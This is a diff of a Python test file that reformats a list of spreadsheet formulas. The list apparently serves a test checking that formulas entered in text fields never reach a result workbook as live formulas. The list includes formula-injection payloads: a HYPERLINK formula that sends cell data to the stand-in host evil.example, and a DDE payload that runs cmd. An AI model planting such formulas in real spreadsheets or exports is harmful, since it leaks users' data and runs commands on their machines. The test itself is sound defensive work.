@@ -110,8 +110,14 @@ async def test_xml_entities_inside_an_xlsx_are_refused(api: Api, tmp_path: Path,
     assert time.monotonic() - started < 10
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)",
-            "=1+1", "\t=2+2"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "=1+1",
+    "\t=2+2",
+]
 
 
 async def test_formulas_in_text_fields_never_reach_the_result_workbook_as_formulas(api: Api, tmp_path: Path) -> None:
